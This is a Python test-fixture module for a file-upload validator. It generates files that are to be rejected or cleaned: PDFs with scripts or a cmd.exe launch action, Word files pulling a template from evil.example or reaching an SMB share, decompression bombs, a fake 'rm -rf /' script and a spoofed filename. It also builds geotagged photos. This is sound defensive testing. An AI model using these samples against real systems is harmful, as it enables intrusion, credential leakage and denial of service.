"""Files that somebody should not have sent, and why each is refused: written anew for each run, none kept in the tree."""

import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
import pillow_heif
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests import factories

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATION = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'

EMPTY = "empty"
KIND = "only PDF, Word, Excel"
NAME = "its content is not what its name says"
LARGE = "it is larger than"
CUT = "cut off or something else"
ACTIVE = "the PDF contains active content"
MACROS = "macros, embedded objects or links"
BROKEN_PDF = "the PDF cannot be read"
BROKEN_DOCUMENT = "the document cannot be read"
BROKEN_PICTURE = "the picture cannot be read"
PIXELS = "more than 25 million pixels"
PAGES = "it has 101 pages; a document may have 100"
LOCKED = "protected by a password"


def office(*, main=WORD_MAIN, extra=(), relations="", types="", comment=b"", first=()) -> bytes:
    """Write an office file with the parts that the sniffer reads, and any others."""
    table = f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for path, content in first:
            archive.writestr(path, content)
        archive.writestr("[Content_Types].xml", table)
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/_rels/document.xml.rels", f"<Relationships>{relations}</Relationships>")
        for path, content in extra:
            archive.writestr(path, content)
        archive.comment = comment
    return out.getvalue()


def pdf_with(change, **options) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    out = BytesIO()
    document.save(out, **options)
    return out.getvalue()


def script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=action)])


def page_script(document):
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))


def attachment(document):
    document.attachments["virus.exe"] = b"MZ"


def form(document):
    document.Root.AcroForm = document.make_indirect(pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>")))


def hex_escaped() -> bytes:
    """The same script, its names written with escapes, as only a reader of PDF sees them."""
    plain = pdf_with(script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert b"/JavaScript" in plain
    return plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def opens_on_page_one(document):
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def go_to_a_file(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoToE, D=pikepdf.String("x"))


def send_form(document):
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://x.example")
    )


def film(document):
    settings = pikepdf.Dictionary(Type=pikepdf.Name.RichMediaSettings)
    note = pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, RichMediaSettings=settings)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])


def chained_script(document):
    """A harmless action, and behind it one that is not."""
    then = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))
    first = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.String("x"), Next=pikepdf.Array([then]))
    document.pages[0].AA = pikepdf.Dictionary(O=first)


def many_pages(document):
    for _ in range(100):
        document.add_blank_page()


def heic(size=(64, 48), **options) -> bytes:
    """A picture as telephones write it."""
    pillow_heif.register_heif_opener()
    return factories.picture(size, format="HEIF", **options)


def lying_zip() -> bytes:
    """A Word file with a part that unfolds to far more than the table says."""
    honest = office(extra=[("word/big.xml", b"\0" * 30_000_000)])
    return honest.replace((30_000_000).to_bytes(4, "little"), (30_000).to_bytes(4, "little"))


def zip_of_zips() -> bytes:
    """A Word file whose parts each unfold to a little less than is allowed, and together to far more."""
    return office(extra=[(f"word/{number}.xml", b"\0" * 50_000_000) for number in range(5)])


def wide_png() -> bytes:
    return factories.picture((26_000, 1_000), format="PNG", mode="1")


def png_bomb() -> bytes:
    """A few bytes that promise 60,000 × 60,000 pixels."""

    def chunk(kind, body):
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    header = (60_000).to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 999))
        + chunk(b"IEND", b"")
    )


REFUSED = {
    "empty": ("bao-cao.pdf", b"", EMPTY),
    "text called PDF": ("bao-cao.pdf", b"Kinh gui Vu To chuc can bo", KIND),
    "HTML called PDF": ("bao-cao.pdf", b"<!DOCTYPE html><script>alert(1)</script>", KIND),
    "HTML": ("bao-cao.html", b"<!DOCTYPE html><script>alert(1)</script>", KIND),
    "SVG": ("anh.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', KIND),
    "SVG called PNG": ("anh.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', KIND),
    "GIF": ("anh.gif", factories.picture(format="GIF"), KIND),
    "TIFF called JPEG": ("anh.jpg", factories.picture(format="TIFF"), KIND),
    "PostScript called JPEG": ("anh.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", KIND),
    "program": ("bao-cao.pdf", b"MZ\x90\0" + b"\0" * 200, KIND),
    "shell script": ("bao-cao.docx", b"#!/bin/sh\nrm -rf /\n", KIND),
    "old Word": ("bao-cao.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, KIND),
    "rich text": ("bao-cao.rtf", rb"{\rtf1\ansi}", KIND),
    "ZIP called Word": ("bao-cao.docx", office(main="text/plain"), KIND),
    "PNG called JPEG": ("anh.jpg", factories.picture(), NAME),
    "PDF called Word": ("bao-cao.docx", factories.pdf(), NAME),
    "PDF without an ending": ("baocao", factories.pdf(), NAME),
    "PDF with a second ending": ("bao-cao.pdf.exe", factories.pdf(), NAME),
    "Word called Excel": ("bang.xlsx", office(), NAME),
    "ending behind a direction mark": ("bao-cao\u202efdp.exe", factories.pdf(), NAME),
    "too large": ("bao-cao.pdf", b"%PDF-1.7" + b"\0" * 20 * 1024 * 1024, LARGE),
    "cut-off PDF": ("bao-cao.pdf", factories.pdf()[:-60], CUT),
    "head of a PDF": ("bao-cao.pdf", b"%PDF-1.7\n%%EOF", BROKEN_PDF),
    "rubbish between head and end": (
        "bao-cao.pdf",
        b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF",
        BROKEN_PDF,
    ),
    "PDF without pages": ("bao-cao.pdf", pdf_with(lambda d: d.pages.__delitem__(0)), BROKEN_PDF),
    "PDF and ZIP in one": (
        "bao-cao.pdf",
        factories.pdf() + office(extra=[("x", bytes(range(256)) * 40)]),
        CUT,
    ),
    "PDF and HTML in one": ("bao-cao.pdf", factories.pdf() + b"<script>alert(1)</script>" * 50, CUT),
    "PDF with a script": ("bao-cao.pdf", pdf_with(script), ACTIVE),
    "PDF with a packed script": (
        "bao-cao.pdf",
        pdf_with(
            lambda d: (script(d), d.make_indirect(d.Root.OpenAction)),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        ACTIVE,
    ),
    "PDF with an escaped script": ("bao-cao.pdf", hex_escaped(), ACTIVE),
    "PDF with a page script": ("bao-cao.pdf", pdf_with(page_script), ACTIVE),
    "PDF that starts a program": ("bao-cao.pdf", pdf_with(launch), ACTIVE),
    "PDF that carries a file": ("bao-cao.pdf", pdf_with(attachment), ACTIVE),
    "PDF with a dynamic form": ("bao-cao.pdf", pdf_with(form), ACTIVE),
    "PDF with a password": (
        "bao-cao.pdf",
        pdf_with(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="u")),
        LOCKED,
    ),
    "Word with macros": ("bao-cao.docx", office(main=MACRO_MAIN), KIND),
    "Word with a hidden macro": ("bao-cao.docx", office(extra=[("word/vbaProject.bin", b"x")]), MACROS),
    "Word with an object": ("bao-cao.docx", office(extra=[("word/embeddings/oleObject1.bin", b"x")]), MACROS),
    "Word with a control": ("bao-cao.docx", office(extra=[("word/activeX/activeX1.xml", "x")]), MACROS),
    "Word that loads a template": (
        "bao-cao.docx",
        office(
            relations=RELATION.format(
                "attachedTemplate", "https://evil.example/t.dotm", ' TargetMode="External"'
            )
        ),
        MACROS,
    ),
    "Word that loads from a share": (
        "bao-cao.docx",
        office(
            relations=RELATION.format("oleObject", r"file://///10.0.0.1/x", ' TargetMode="External"')
            + RELATION.format("frame", r"\\10.0.0.1\x", ' TargetMode="External"')
        ),
        MACROS,
    ),
    "Word that is both": ("bao-cao.docx", office(types=f'<Override ContentType="{EXCEL_MAIN}"/>'), KIND),
    "Word with entities": ("bao-cao.docx", office(types='<!DOCTYPE x [<!ENTITY a "b">]>'), KIND),
    "Word that unfolds endlessly": (
        "bao-cao.docx",
        office(extra=[("word/big.xml", b"\0" * (201 * 1024 * 1024))]),
        BROKEN_DOCUMENT,
    ),
    "Word of too many parts": (
        "bao-cao.docx",
        office(extra=[(f"word/{n}.xml", "") for n in range(5001)]),
        BROKEN_DOCUMENT,
    ),
    "Word with a tail": ("bao-cao.docx", office(comment=b"<script>"), BROKEN_DOCUMENT),
    "cut-off Word": ("bao-cao.docx", office()[:-40], KIND),
    "head of a ZIP": ("bao-cao.docx", b"PK\x03\x04", KIND),
    "cut-off PNG": ("anh.png", factories.picture((400, 400))[:-200], BROKEN_PICTURE),
    "cut-off JPEG": ("anh.jpg", factories.picture((400, 400), format="JPEG")[:600], BROKEN_PICTURE),
    "head of a WebP": ("anh.webp", b"RIFF\x10\0\0\0WEBPVP8 ", BROKEN_PICTURE),
    "picture that unfolds endlessly": ("anh.png", png_bomb(), PIXELS),
    "old Excel": ("bang.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, KIND),
    "old Word with a new ending": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, KIND),
    "web page called JPEG": ("anh.jpg", b"<html><script>alert(1)</script></html>", KIND),
    "script called Word": ("a.docx", b"<script>alert(1)</script>", KIND),
    "shortcut": ("bao-cao.pdf.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90, KIND),
    "disk image called PDF": ("a.pdf", b"\0" * 32769 + b"CD001", KIND),
    "archive": ("ho-so.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 50, KIND),
    "7z called Word": ("a.docx", b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, KIND),
    "film called HEIC": ("a.heic", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 80, KIND),
    "AVIF": ("a.avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\0" * 80, KIND),
    "bitmap": ("a.bmp", factories.picture(format="BMP"), KIND),
    "JPEG 2000 called JPEG": ("a.jpg", b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 80, KIND),
    "HEIC called JPEG": ("a.jpg", heic(), NAME),
    "JPEG called HEIC": ("a.heic", factories.picture(format="JPEG"), NAME),
    "cut-off HEIC": ("a.heic", heic()[:-200], BROKEN_PICTURE),
    "head of a HEIC": ("a.heic", heic()[:60], BROKEN_PICTURE),
    "head of a JPEG": ("a.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0", BROKEN_PICTURE),
    "picture of too many pixels": ("a.png", wide_png(), PIXELS),
    "PDF of too many pages": ("a.pdf", pdf_with(many_pages), PAGES),
    "PDF that opens a file within": ("a.pdf", pdf_with(go_to_a_file), ACTIVE),
    "PDF that sends a form": ("a.pdf", pdf_with(send_form), ACTIVE),
    "PDF with a film": ("a.pdf", pdf_with(film), ACTIVE),
    "PDF with a script behind another action": ("a.pdf", pdf_with(chained_script), ACTIVE),
    "Word that lies about its size": ("a.docx", lying_zip(), BROKEN_DOCUMENT),
    "Word of large parts": ("a.docx", zip_of_zips(), BROKEN_DOCUMENT),
    "Excel with macros": (
        "a.xlsx",
        office(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        KIND,
    ),
    "Excel with an old macro sheet": (
        "a.xlsx",
        office(main=EXCEL_MAIN, extra=[("xl/macrosheets/s.xml", "x")]),
        MACROS,
    ),
    "Word that carries a program": ("a.docx", office(extra=[("word/media/x.exe", b"MZ")]), MACROS),
}


# --- What is taken all the same, without what was hidden in it -------------------------------------------

SCRIPT = b"<script>alert(1)</script>"
#: Sound files with a passenger, by case: name, content, the type that is stored.
CLEANSED = {
    "JPEG with a web page behind it": ("a.jpg", factories.picture(format="JPEG") + SCRIPT, "image/jpeg"),
    "JPEG with an archive behind it": ("a.jpg", factories.picture(format="JPEG") + office(comment=SCRIPT), "image/jpeg"),
    "JPEG with a script in its comment": ("a.jpeg", factories.picture(format="JPEG", comment=SCRIPT), "image/jpeg"),
    "PNG with a program behind it": ("a.png", factories.picture() + b"MZ" + SCRIPT, "image/png"),
    "WebP with a script in its metadata": ("a.webp", factories.picture(format="WEBP", xmp=SCRIPT), "image/webp"),
    "HEIC with a script in its metadata": ("a.heic", heic(xmp=SCRIPT), "image/jpeg"),
}  # fmt: skip
#: Kept to the byte, for it is harmless as what it is; it must never be taken for anything else.
TWO_FACED = (
    "<script>alert(1)</script>.pdf",
    b"%PDF-1.7\n%" + SCRIPT + b"\n" + factories.pdf(),
    "application/pdf",
)


# --- What cameras and programs write into a picture -----------------------------------------------------

MARK = b"SECRETPLACE"
XMP = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>%s 21,1.7N</x:xmpmeta>" % MARK


def placed_exif(orientation: int = 6) -> Image.Exif:
    """Where, with what and by whom a picture was taken, on its side."""
    exif = Image.Exif()
    exif[0x0110] = exif[0x013B] = exif[0x9C9B] = MARK.decode()
    exif[0x0112] = orientation
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4], place[0x1D] = (
        "N",
        (21.0, 1.0, 42.0),
        "E",
        (105.0, 51.0, 0.0),
        "2026:11:23",
    )
    return exif


def app13() -> bytes:
    """A JPEG's segment as press agencies write it (IPTC), with a city."""
    entry = b"\x1c\x02\x5a" + len(MARK).to_bytes(2, "big") + MARK
    block = b"Photoshop 3.0\0" + b"8BIM\x04\x04\0\0" + len(entry).to_bytes(4, "big") + entry + b"\0"
    return b"\xff\xed" + (len(block) + 2).to_bytes(2, "big") + block


def placed_jpeg() -> bytes:
    data = factories.picture((40, 50), format="JPEG", exif=placed_exif(), xmp=XMP, comment=MARK)
    return data[:2] + app13() + data[2:]


def placed_png() -> bytes:
    text = PngInfo()
    text.add_itxt("XML:com.adobe.xmp", XMP.decode())
    text.add_text("Comment", MARK.decode())
    text.add_text("Raw profile type iptc", MARK.hex(), zip=True)
    return factories.picture((40, 50), exif=placed_exif(), pnginfo=text)


#: By case: name and content of a picture on its side that tells where it was taken; upright it is 50 wide.
PLACED = {
    "JPEG": ("a.jpg", placed_jpeg()),
    "PNG": ("a.png", placed_png()),
    "WebP": ("a.webp", factories.picture((40, 50), format="WEBP", exif=placed_exif(), xmp=XMP)),
    "HEIC": ("a.heic", heic((40, 50), exif=placed_exif().tobytes(), xmp=XMP)),
}
